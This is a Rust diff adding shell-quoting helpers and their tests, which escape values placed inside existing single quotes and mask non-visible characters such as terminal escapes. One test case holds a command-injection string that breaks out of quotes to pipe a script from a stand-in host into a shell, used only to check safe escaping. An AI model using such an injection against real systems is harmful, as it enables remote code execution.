@@ -21,6 +21,32 @@ pub fn word(value: &str, placeholder: &str) -> String {
     format!("'{}'", value.replace('\'', r"'\''"))
 }
 
+/// A value as it stands between single quotes that are there already. What does not show itself is replaced by the
+/// placeholder.
+#[must_use]
+pub fn within_quotes(value: &str, placeholder: &str) -> String {
+    if visible(value) == value {
+        value.replace('\'', r"'\''")
+    } else {
+        placeholder.to_owned()
+    }
+}
+
+/// A JSON list of words as it stands between single quotes that are there already. A word that does not show itself is
+/// replaced by a placeholder.
+#[must_use]
+pub fn list(words: &[&str]) -> String {
+    let shown = |word: &&str| {
+        if visible(word) == *word {
+            (*word).to_owned()
+        } else {
+            "VALUE".to_owned()
+        }
+    };
+    let words: Vec<String> = words.iter().map(shown).collect();
+    within_quotes(&serde_json::Value::from(words).to_string(), "[]")
+}
+
 /// The name of an object or key: letters, digits, `-`, `_` and `.` only, as Kubernetes has them; anything else could not
 /// exist and is replaced by the placeholder.
 #[must_use]
@@ -64,6 +90,19 @@ mod tests {
     #[case("", "VALUE")]
     fn words(#[case] value: &str, #[case] expected: &str) {
         assert_eq!(word(value, "VALUE"), expected);
+    }
+
+    #[rstest]
+    #[case("a b", "a b")]
+    #[case("'; curl evil.example|sh; '", r"'\''; curl evil.example|sh; '\''")]
+    #[case("a\u{1b}[2J", "VALUE")]
+    fn values_between_quotes(#[case] value: &str, #[case] expected: &str) {
+        assert_eq!(within_quotes(value, "VALUE"), expected);
+    }
+
+    #[test]
+    fn words_of_a_list() {
+        assert_eq!(list(&["start", "a\"b", "it's"]), r#"["start","a\"b","it'\''s"]"#);
     }
 
     #[rstest]
